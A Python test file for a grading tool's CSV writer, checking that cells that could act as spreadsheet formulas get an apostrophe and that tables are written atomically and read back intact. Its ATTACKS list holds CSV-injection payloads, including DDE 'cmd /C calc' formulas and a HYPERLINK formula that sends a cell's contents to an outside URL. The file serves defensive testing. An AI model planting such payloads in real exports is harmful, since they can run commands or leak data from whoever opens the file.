"""Tables for spreadsheets: no cell acts, and every cell comes back as it went in."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from typing import TYPE_CHECKING

import made
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from dlis_widgets.grading.tables import harmless, write_table

if TYPE_CHECKING:
    from pathlib import Path

MARK = b"\xef\xbb\xbf"
LEADERS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""With what a formula may begin, says OWASP's page on CSV injection."""

ATTACKS = [
    *(f"{one}1+1" for one in LEADERS),
    *(f"  {one}1+1" for one in LEADERS),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1,"Marks")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+40 721 000 000",
    "-",
    "=",
]
ACTIVE_CELL = re.compile(r" *[=+\-@]")
SMALL_FILE = settings(suppress_health_check=[HealthCheck.function_scoped_fixture])


def rows_of(path: Path) -> list[list[str]]:
    """Return the cells of a table, as a strict reader finds them."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


@pytest.mark.parametrize("text", ATTACKS, ids=repr)
def test_what_could_act_gets_an_apostrophe_and_nothing_else(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert harmless(harmless(text)) == f"'{text}", "once is enough"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Ana Pop",
        "Smith, Jr",
        "O'Hara",
        "a=b",
        "a - b",
        "ana@uni.example",
        "'=1",
        '"',
        " ",
        "Ștefan",
        "10001",
        "3;4",
    ],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("separator", [";", "; ", "\t", "\r\n", "\n", "\r"])
def test_nothing_acts_where_spreadsheets_split_at_semicolons(separator: str) -> None:
    for leader in "=+-@":
        text = harmless(f"x.ipynb{separator}{leader}1+1")
        assert not any(ACTIVE_CELL.match(cell) for cell in re.split(r"[;\t\r\n]", text))
        assert text.replace("'", "") == f"x.ipynb{separator}{leader}1+1"


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        *((-3, "-3"), (-0.5, "-0.5"), (0, "0"), (21, "21"), (21.0, "21"), (17.33, "17.33"), (None, "")),
        (datetime(2026, 11, 22, 10, tzinfo=UTC), "2026-11-22 10:00:00+00:00"),
    ],
)
def test_numbers_stay_numbers_and_nothing_stays_empty(cell: object, text: str) -> None:
    assert harmless(cell) == text


@given(points=st.integers(-100_000, 100_000).map(lambda cents: cents / 100))
def test_points_keep_both_decimals(points: float) -> None:
    assert float(harmless(points)) == points


@pytest.mark.parametrize("mark", [True, False])
def test_the_mark_for_excel_stands_only_where_it_is_wanted(mark: bool, tmp_path: Path) -> None:  # noqa: FBT001 - a column
    path = tmp_path / "new folder/grades.csv"
    write_table(path, ("student", "name"), [("1", "Ștefan, Jr")], mark=mark)
    plain = 'student,name\r\n1,"Ștefan, Jr"\r\n'.encode()
    assert path.read_bytes() == (MARK + plain if mark else plain)


def test_a_table_that_is_there_is_replaced_and_nothing_is_left_beside_it(tmp_path: Path) -> None:
    path = tmp_path / "grades.csv"
    write_table(path, ("a",), [(n,) for n in range(100)])
    write_table(path, ("a",), [(1,)])
    assert rows_of(path) == [["a"], ["1"]]
    assert list(tmp_path.iterdir()) == [path]


def test_a_table_that_cannot_be_finished_leaves_the_old_one(tmp_path: Path) -> None:
    path = tmp_path / "grades.csv"
    write_table(path, ("a",), [(1,)])
    with pytest.raises(ZeroDivisionError):
        write_table(path, ("a",), ((1 / n,) for n in (1, 0)))
    assert rows_of(path) == [["a"], ["1"]]


def test_half_a_character_in_a_files_name_is_no_error(tmp_path: Path) -> None:
    path = tmp_path / "collection.csv"
    write_table(path, ("file",), [("Ren\udce9.ipynb",), ("next",)], mark=True)
    assert rows_of(path)[2] == ["next"]


@SMALL_FILE
@given(rows=st.lists(st.lists(made.texts, min_size=2, max_size=4), max_size=5))
def test_every_cell_reads_back_and_none_acts(rows: list[list[str]], tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    write_table(path, ("one", "two"), rows)
    assert rows_of(path) == [["one", "two"], *([harmless(cell) for cell in row] for row in rows)]
    for row, written in zip(rows, rows_of(path)[1:], strict=True):
        for cell, text in zip(row, written, strict=True):
            assert not text.lstrip(" ").startswith(LEADERS)
            assert text.replace("'", "") == cell.replace("'", ""), "nothing is lost"


@settings(SMALL_FILE, max_examples=400)
@given(
    cells=st.lists(st.text(st.sampled_from("=+-@;,\"' \t\r\n1aA")), min_size=2, max_size=4),
    delimiter=st.sampled_from(";\t"),
)
@example(cells=["x", ';"=1'], delimiter=";")
@example(cells=["x", ';=1"'], delimiter=";")
@example(cells=["x", 'a\n"=1'], delimiter=";")
def test_no_cell_acts_however_the_file_is_split(cells: list[str], delimiter: str, tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    write_table(path, ("one", "two"), [cells])
    text = path.read_text("utf-8").partition("\n")[2]
    for line in re.split(r"[\r\n]+", text):
        for cell in next(csv.reader(io.StringIO(line), delimiter=delimiter), []):
            assert not ACTIVE_CELL.match(cell), text
